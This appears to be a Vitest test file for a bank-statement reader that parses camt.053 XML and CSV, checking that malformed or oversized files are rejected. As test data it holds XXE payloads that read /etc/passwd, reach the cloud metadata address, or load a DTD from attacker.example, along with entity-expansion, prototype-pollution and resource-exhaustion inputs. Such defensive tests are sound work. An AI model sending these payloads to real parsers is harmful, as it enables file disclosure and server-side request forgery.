import { expect, it } from "vitest";
import { readStatement } from "#lib/payments/statements/read-statement.ts";

const read = (file: string | Uint8Array) => readStatement(typeof file === "string" ? new TextEncoder().encode(file) : file, "EUR");
const entry =
  '<Ntry><Amt Ccy="EUR">1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts><BookgDt><Dt>2027-01-31</Dt></BookgDt><AddtlNtryInf>für Öl</AddtlNtryInf></Ntry>';
const camt = (entries: string) => `<Document><BkToCstmrStmt><Stmt>${entries}</Stmt></BkToCstmrStmt></Document>`;
const doctype = (inside: string) => `<?xml version="1.0"?><!DOCTYPE Document ${inside}>${camt(entry)}`;
const utf16 = (text: string) => new Uint8Array(Buffer.from(text, "utf16le"));
const bigEndian = (text: string) => new Uint8Array(Buffer.from(text, "utf16le").swap16());
const many = (count: number, part: (at: number) => string) => Array.from({ length: count }, (_, at) => part(at)).join("");

it.each([
  ["entities of entities", doctype(`[${many(20, (at) => `<!ENTITY e${at + 1} "&e${at};&e${at};">`)}]`)],
  ["a file of ours", doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]')],
  ["an address", doctype('[<!ENTITY x SYSTEM "http://169.254.169.254/">]')],
  ["a parameter", doctype('[<!ENTITY % x SYSTEM "http://attacker.example/dtd"> %x;]')],
  ["a document type of others", doctype('PUBLIC "-//x//y" "http://attacker.example/dtd"')],
  ["small letters", `<!doctype a>${camt(entry)}`],
  ["two bytes a sign", utf16(doctype('[<!ENTITY x "y">]'))],
  ["two bytes a sign, the other way", bigEndian(doctype('[<!ENTITY x "y">]'))],
])("refuses a document type: %s", (_, file) =>
  expect(() => read(file)).toThrow(expect.objectContaining({ code: "statement_doctype", field: "file" })),
);

it.each([
  ["tags in tags", "<a>".repeat(100_000)],
  ["tags in tags that end", camt("<a>".repeat(60_000) + "</a>".repeat(60_000))],
  ["a very long attribute", `<Document a="${"x".repeat(800_000)}"></Document>`],
  ["very many attributes", `<Document ${many(60_000, (at) => `a${at}="1" `)}></Document>`],
  ["attributes without end", `<Document ${"a=".repeat(400_000)}`],
  ["tags without names", "<".repeat(800_000)],
  ["a comment without end", `<!--${"-".repeat(800_000)}`],
  ["very many entities", camt("&#x41;".repeat(130_000))],
  ["names that objects have", "<Document><__proto__><a/></__proto__><constructor/></Document>"],
  ["an archive", new Uint8Array([0x50, 0x4b, 3, 4, 20, 0, 0, 0])],
  ["an amount beyond all", camt(entry.replace("1.00", "9".repeat(30)))],
  ["an amount below zero", camt(entry.replace("1.00", "-1.00"))],
  ["no currency that is one", camt(entry.replace("EUR", "XXQ"))],
  ["no day", camt(entry.replace("01-31", "02-31"))],
])("cannot read %s", (_, file) =>
  expect(() => read(file)).toThrow(expect.objectContaining({ code: "statement_unreadable", field: "file" })),
);

it.each([
  ["a table of very many columns", "a,".repeat(400_000), "statement_columns"],
  ["very many spaces in an amount", `Date,Description,Amount\n2027-01-31,x,1${"\u00a0".repeat(400_000)}!`, "statement_cell"],
  ["a file too large", new Uint8Array(20_000_001), "statement_too_large"],
  ["nothing but tags", `<Document>${"<a/>".repeat(1_000_001)}</Document>`, "statement_too_large"],
  ["nothing but cells", ",".repeat(1_000_001), "statement_too_large"],
  ["nothing but rows", "\n".repeat(200_001), "statement_too_large"],
  ["too many lines", `Date,Description,Amount\n${"2027-01-31,x,1\n".repeat(20_001)}`, "statement_too_large"],
])("refuses %s", (_, file, code) => expect(() => read(file)).toThrow(expect.objectContaining({ code })));

it.each(["BkToCstmrDbtCdtNtfctn", "BkToCstmrAcctRpt", "CstmrPmtStsRpt", "CstmrCdtTrfInitn"])("says that %s is another message", (kind) =>
  expect(() => read(`<Document><${kind}><Ntfctn>${entry}</Ntfctn></${kind}></Document>`)).toThrow(
    expect.objectContaining({ code: "statement_other", values: { kind } }),
  ),
);

it.each([
  ["UTF-8 with a mark", new TextEncoder().encode(`\ufeff${camt(entry)}`)],
  ["UTF-16 with a mark", utf16(`\ufeff${camt(entry)}`)],
  ["UTF-16 without", utf16(camt(entry))],
  ["UTF-16, the other way", bigEndian(`\ufeff${camt(entry)}`)],
  ["Windows-1252 that says UTF-8", Uint8Array.from(`<?xml version="1.0" encoding="UTF-8"?>${camt(entry)}`, (sign) => sign.charCodeAt(0))],
])("reads %s", (_, file) => expect(read(file).lines).toMatchObject([{ text: "für Öl" }]));

it.each(["02", "04", "06", "08", "10", "13"])("reads version %s, with a prefix of any name", (version) => {
  const prefixed = camt(entry).replace(/<(\/?)/g, "<$1ns2:");
  const file = prefixed.replace("<ns2:Document", `<ns2:Document xmlns:ns2="urn:iso:std:iso:20022:tech:xsd:camt.053.001.${version}"`);
  expect(read(file).lines).toMatchObject([{ amount: { minor: 100n, currency: "EUR" } }]);
});

it("leaves an entity that nobody has named as it stands", () => {
  expect(read(camt(entry.replace("für", "&xxe;"))).lines).toMatchObject([{ text: "&xxe; Öl" }]);
});
